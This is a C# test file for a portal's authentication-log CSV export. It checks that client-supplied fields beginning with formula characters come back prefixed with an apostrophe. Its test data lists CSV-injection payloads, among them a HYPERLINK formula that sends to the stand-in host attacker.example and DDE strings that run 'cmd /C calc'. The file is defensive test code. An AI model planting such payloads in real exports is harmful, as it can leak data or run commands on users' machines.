using System.Net;
using Portal.Core.Audit;
using Portal.Tests.Core.Usage;
using Portal.Tests.Infrastructure;

namespace Portal.Tests.Api.Logs;

/// <summary>
/// <c>GET /orgs/{id}/logs.csv</c> over real HTTP: text a client chose (path, method, user agent…)
/// that a spreadsheet would run as a formula comes back as text.
/// </summary>
public abstract class AuthenticationLogExportTests(PortalApp app)
{
    /// <summary>Cells a spreadsheet would read as formulas (OWASP CSV injection), one per dangerous first character.</summary>
    public static readonly string[] FormulaTexts =
    [
        "=HYPERLINK(\"http://attacker.example/leak\",\"open\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    [Fact]
    public async Task Export_ClientTextBeginningWithAFormulaCharacter_IsNeutralised()
    {
        var owner = await app.NewUserAsync();
        var key = await app.NewKeyInAsync(owner, owner.OrganizationId, "logged");
        var now = app.Clock.GetUtcNow();
        await app.AddLogAsync([.. FormulaTexts.Select((text, i) => new AuthenticationLogRecord
        {
            OccurredAt = now.AddMinutes(-5 - i),
            KeyId = key,
            OrganizationId = owner.OrganizationId,
            OwnerId = owner.User.Id,
            KeyHint = text,
            Code = "VALID",
            Door = Doors.Check,
            Method = text,
            Path = text,
            ClientIp = text,
            UserAgent = text,
            LatencyMicroseconds = 100,
            Scope = text,
            Rule = text,
        })]);
        var client = await app.SignInAsync(owner);

        var response = await client.GetAsync($"/orgs/{owner.OrganizationId}/logs.csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var rows = CsvFile.Parse(await response.Content.ReadAsStringAsync());
        Assert.Equal("occurred_at,key_id,key_hint,code,door,method,path,client_ip,user_agent,latency_us,count,scope,rule", string.Join(',', rows[0]));
        Assert.Equal(FormulaTexts.Length, rows.Count - 1);
        Assert.Empty(CsvFile.FormulaCells(rows));
        foreach (var text in FormulaTexts)
        {
            var row = Assert.Single(rows, r => r[6] == "'" + text);
            Assert.Equal(["'" + text, "'" + text, "'" + text, "'" + text, "'" + text, "'" + text, "'" + text], new[] { row[2], row[5], row[6], row[7], row[8], row[11], row[12] });
        }
    }
}

public sealed class SqliteAuthenticationLogExportTests(SqliteApp app) : AuthenticationLogExportTests(app), IClassFixture<SqliteApp>;

public sealed class PostgreSqlAuthenticationLogExportTests(PostgreSqlApp app) : AuthenticationLogExportTests(app), IClassFixture<PostgreSqlApp>;
